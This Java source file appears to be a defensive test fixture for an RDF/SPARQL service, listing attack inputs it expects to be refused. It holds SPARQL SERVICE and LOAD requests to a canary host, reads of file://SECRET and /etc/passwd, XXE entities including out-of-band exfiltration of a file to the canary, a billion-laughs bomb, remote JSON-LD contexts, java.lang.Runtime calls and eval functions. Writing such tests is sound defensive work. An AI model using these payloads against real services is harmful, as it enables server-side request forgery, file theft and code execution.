package org.silkgraph.attack;

import static org.silkgraph.attack.Attack.change;
import static org.silkgraph.attack.Attack.encode;
import static org.silkgraph.attack.Attack.query;
import static org.silkgraph.attack.Attack.to;
import static org.silkgraph.attack.Attack.update;
import static org.silkgraph.attack.Attack.upload;

import java.util.stream.Stream;

/** What would make the service call somebody, read a file, run code. */
final class CallingOut {
    private static final String LD = "application/ld+json";
    private static final String XML = "application/rdf+xml";
    private static final String RDF =
            "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description rdf:about='http://e/a'><p xmlns='http://e/'>%s</p></rdf:Description></rdf:RDF>";

    private CallingOut() {}

    static Stream<Attack> all() {
        return Stream.of(services(), loads(), datasets(), contexts(), entities(), functions())
                .flatMap(attacks -> attacks);
    }

    static Stream<Attack> services() {
        Stream<Attack> asked = Stream.of(
                        "SELECT * { SERVICE <CANARY> { ?s ?p ?o } }",
                        "SELECT * { SERVICE SILENT <CANARY> { ?s ?p ?o } }",
                        "SELECT * { BIND(<CANARY> AS ?x) SERVICE ?x { ?s ?p ?o } }",
                        "SELECT * { VALUES ?x { <CANARY> } SERVICE SILENT ?x { ?s ?p ?o } }",
                        "ASK { FILTER EXISTS { SERVICE <CANARY> { ?s ?p ?o } } }",
                        "SELECT * { FILTER NOT EXISTS { { SELECT * { SERVICE <CANARY> { ?s ?p ?o } } } } }",
                        "SELECT * { { SELECT * { SERVICE <CANARY> { ?s ?p ?o } } } }",
                        "SELECT * { OPTIONAL { SERVICE SILENT <CANARY> { ?s ?p ?o } } }",
                        "SELECT * { ?s ?p ?o MINUS { SERVICE <CANARY> { ?s ?p ?o } } }",
                        "CONSTRUCT { ?s ?p ?o } { SERVICE <CANARY> { ?s ?p ?o } }",
                        "DESCRIBE ?s { SERVICE <CANARY> { ?s ?p ?o } }",
                        "SELECT (COUNT(*) AS ?n) { GRAPH ?g { SERVICE <CANARY> { ?s ?p ?o } } }",
                        "SELECT * { SERVICE <cache:CANARY> { ?s ?p ?o } }",
                        "SELECT * { SERVICE <loop:bulk:CANARY> { ?s ?p ?o } }",
                        "SELECT * { ?s ?p ?o FILTER(IF(EXISTS { SERVICE <CANARY> { ?s ?p ?o } }, true, false)) }",
                        "SELECT ?s { ?s ?p ?o } ORDER BY EXISTS { SERVICE <CANARY> { ?s ?p ?o } }",
                        "SELECT ?s { ?s ?p ?o } GROUP BY ?s HAVING(EXISTS { SERVICE <CANARY> { ?a ?b ?c } })",
                        "SELECT (EXISTS { SERVICE <CANARY> { ?a ?b ?c } } AS ?x) { ?s ?p ?o }")
                .map(text -> query(text).refused());
        Stream<Attack> written = Stream.of(
                        "INSERT { ?s ?p ?o } WHERE { SERVICE <CANARY> { ?s ?p ?o } }",
                        "DELETE { ?s ?p ?o } WHERE { SERVICE SILENT <CANARY> { ?s ?p ?o } }",
                        "INSERT { ?s ?p ?o } USING <urn:g> WHERE { { SELECT * { SERVICE <CANARY> { ?s ?p ?o } } } }")
                .map(text -> update(text).refused());
        return Stream.concat(asked, written);
    }

    static Stream<Attack> loads() {
        return Stream.of(
                        "LOAD <CANARY>",
                        "LOAD SILENT <CANARY>",
                        "LOAD <CANARY> INTO GRAPH <http://e/g>",
                        "LOAD <file://SECRET>",
                        "LOAD SILENT <file://SECRET> INTO GRAPH <http://e/g>",
                        "LOAD <SECRET>",
                        "LOAD <secret.ttl>",
                        "LOAD <../../../../etc/passwd>",
                        "LOAD <classpath:/org/silkgraph/web/messages_en.properties>",
                        "LOAD <jar:file:/a.jar!/b>",
                        "INSERT DATA { <http://e/a> <http://e/b> 1 } ; LOAD <CANARY>",
                        "CREATE SILENT GRAPH <http://e/g> ; LOAD SILENT <CANARY> INTO GRAPH <http://e/g>")
                .map(text -> update(text).refused());
    }

    static Stream<Attack> datasets() {
        String all = "query=" + encode("SELECT * { { ?s ?p ?o } UNION { GRAPH ?g { ?s ?p ?o } } } LIMIT 5");
        return Stream.of(
                query("SELECT * FROM <CANARY> { ?s ?p ?o }").harmless(),
                query("SELECT * FROM NAMED <CANARY> { GRAPH ?g { ?s ?p ?o } }").harmless(),
                query("SELECT * FROM <file://SECRET> { ?s ?p ?o }").harmless(),
                query("SELECT * FROM <SECRET> { ?s ?p ?o }").harmless(),
                to("GET /sparql?" + all + "&default-graph-uri=" + encode("CANARY"))
                        .harmless(),
                to("GET /sparql?" + all + "&named-graph-uri=" + encode("file://SECRET"))
                        .harmless(),
                to("GET /sparql?" + all + "&default-graph-uri=" + encode("file:///etc/passwd"))
                        .harmless(),
                to("GET /graphs?graph=" + encode("CANARY")).refused(),
                to("GET /graphs?graph=" + encode("file://SECRET")).refused(),
                to("GET /graphs?graph=SECRET").refused(),
                to("POST /update?using-graph-uri=" + encode("CANARY"))
                        .editor()
                        .type("application/sparql-update")
                        .body("INSERT { ?s ?p ?o } WHERE { ?s ?p ?o }")
                        .harmless(),
                to("POST /update?using-named-graph-uri=" + encode("file://SECRET"))
                        .editor()
                        .type("application/sparql-update")
                        .body("INSERT { ?s ?p ?o } WHERE { GRAPH ?g { ?s ?p ?o } }")
                        .harmless());
    }

    static Stream<Attack> contexts() {
        return Stream.of(
                        "{'@context':'CANARY','@id':'http://e/a','p':1}",
                        "{'@context':['CANARY',{'a':'http://e/a'}],'@id':'http://e/a'}",
                        "{'@context':{'@import':'CANARY'},'@id':'http://e/a'}",
                        "{'@context':{'p':{'@id':'http://e/p','@context':'CANARY'}},'@id':'http://e/a','p':{'x':1}}",
                        "{'@context':{'T':{'@id':'http://e/T','@context':'CANARY'}},'@type':'T','@id':'http://e/a'}",
                        "{'@context':{'p':{'@id':'http://e/p','@type':'@json'}},'@id':'http://e/a','p':1,'@included':[{'@context':'CANARY','@id':'http://e/b'}]}",
                        "{'@context':'file://SECRET','@id':'http://e/a'}",
                        "{'@context':'file:///etc/passwd','@id':'http://e/a'}",
                        "{'@context':'https://schema.org','@id':'http://e/a','name':'x'}",
                        "[{'@graph':[{'@context':'CANARY','@id':'http://e/a'}]}]")
                .map(text -> upload(LD, text.replace('\'', '"')).refused());
    }

    static Stream<Attack> entities() {
        return Stream.of(
                        "<!DOCTYPE a [<!ENTITY x SYSTEM 'CANARY'>]>",
                        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file://SECRET'>]>",
                        "<!DOCTYPE a SYSTEM 'CANARY'>",
                        "<!DOCTYPE a PUBLIC '-//x//y' 'CANARY'>",
                        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'CANARY'> %p;]>",
                        "<!DOCTYPE a [<!ENTITY % f SYSTEM 'file://SECRET'><!ENTITY % e \"<!ENTITY &#37; x SYSTEM 'CANARY?%f;'>\">%e;%x;]>",
                        billionLaughs(),
                        "<!DOCTYPE a [<!ENTITY x '" + "y".repeat(100_000) + "'>]>")
                .map(doctype -> upload(XML, "<?xml version='1.0'?>\n" + doctype + RDF.formatted("&x;".repeat(10)))
                        .refused());
    }

    private static String billionLaughs() {
        StringBuilder type = new StringBuilder("<!DOCTYPE a [<!ENTITY x0 'ha'>");
        for (int i = 1; i < 12; i++) type.append("<!ENTITY x%d '%s'>".formatted(i, ("&x" + (i - 1) + ";").repeat(10)));
        return type.append("<!ENTITY x '&x11;'>]>").toString();
    }

    /** A name that the pattern of names is matched with. */
    private static String named(int times) {
        return "<https://w3id.org/silkgraph/id/" + "a-".repeat(times)
                + "a> a <https://w3id.org/silkgraph/ontology#Region> .";
    }

    static Stream<Attack> functions() {
        String prefixes =
                "PREFIX afn: <http://jena.apache.org/ARQ/function#> PREFIX apf: <http://jena.apache.org/ARQ/property#> "
                        + "PREFIX fn: <http://www.w3.org/2005/xpath-functions#> PREFIX js: <http://jena.apache.org/ARQ/jsFunction#> ";
        Stream<Attack> asked = Stream.of(
                        "SELECT (<java:java.lang.Runtime>() AS ?x) {}",
                        "SELECT (<java:org.apache.jena.sparql.function.library.now>() AS ?x) {}",
                        "SELECT * { ?s <java:org.apache.jena.sparql.pfunction.library.concat> ?o }",
                        "SELECT (<classpath:a.B>() AS ?x) {}",
                        "SELECT (<file://SECRET>() AS ?x) {}",
                        "SELECT (afn:wait(20000) AS ?x) {}",
                        "SELECT (afn:print('event=forged') AS ?x) {}",
                        "SELECT (afn:eval('1+1') AS ?x) {}",
                        "SELECT (afn:systemProperty('user.home') AS ?x) {}",
                        "SELECT (afn:context('arq:queryTimeout') AS ?x) {}",
                        "SELECT (afn:sha1sum('a') AS ?x) {}",
                        "SELECT (js:eval('1') AS ?x) {}",
                        "SELECT (CALL(<java:java.lang.Runtime>) AS ?x) {}",
                        "SELECT * { ?s apf:splitIRI (?a ?b) }",
                        "SELECT * { 'a b' apf:strSplit ('x' ' ') }",
                        "SELECT * { ?x apf:versionARQ ?y }",
                        "SELECT * { ?s apf:assign ?o }",
                        "SELECT * { ?s <http://jena.apache.org/text#query> 'x' }",
                        "SELECT * { ?s <http://jena.apache.org/spatial#nearby> (1 1 1) }",
                        "SELECT * { ?s <http://jena.hpl.hp.com/ARQ/property#bag> ?o }",
                        "SELECT (<http://jena.apache.org/ARQ/function/aggregate#median>(?o) AS ?x) { ?s ?p ?o }",
                        "SELECT * { ?s (<java:a.B>)+ ?o }",
                        "ASK { FILTER EXISTS { ?s ?p ?o FILTER(<java:a.B>(?s)) } }")
                .map(text -> query(prefixes + text).named(text).refused());
        Stream<Attack> written = Stream.of(
                        "INSERT { <http://e/a> <http://e/p> ?x } WHERE { BIND(afn:wait(20000) AS ?x) }",
                        "INSERT { <http://e/a> <http://e/p> ?x } WHERE { BIND(<java:a.B>() AS ?x) }",
                        "DELETE { ?s ?p ?o } WHERE { ?s apf:splitIRI (?p ?o) }")
                .map(text -> update(prefixes + text).named(text).refused());
        Stream<Attack> shapes = Stream.of(
                // Of a name and not of a call: it has no value.
                query(prefixes + "SELECT (fn:apply(<java:java.lang.Runtime>) AS ?x) {}")
                        .named("fn:apply")
                        .harmless(),
                change("{\"entities\":[{\"slug\":\"a\",\"class\":\"Region\",\"label\":{\"iri\":\"java:a.B\"}}]}")
                        .refused(),
                upload("text/turtle", named(3_900)).refused(),
                upload("text/turtle", named(1_000)).harmless(),
                upload(
                                "text/turtle",
                                "@prefix sh: <http://www.w3.org/ns/shacl#> . @prefix owl: <http://www.w3.org/2002/07/owl#> ."
                                        + " <http://e/s> a sh:NodeShape ; owl:imports <CANARY> ; sh:targetNode <http://e/s> ;"
                                        + " sh:js [ sh:jsLibrary [ sh:jsLibraryURL \"CANARY\" ] ; sh:jsFunctionName \"f\" ] ;"
                                        + " sh:sparql [ sh:select \"SELECT $this { SERVICE <CANARY> { ?s ?p ?o } }\" ] .")
                        .harmless());
        return Stream.of(asked, written, shapes).flatMap(attacks -> attacks);
    }
}
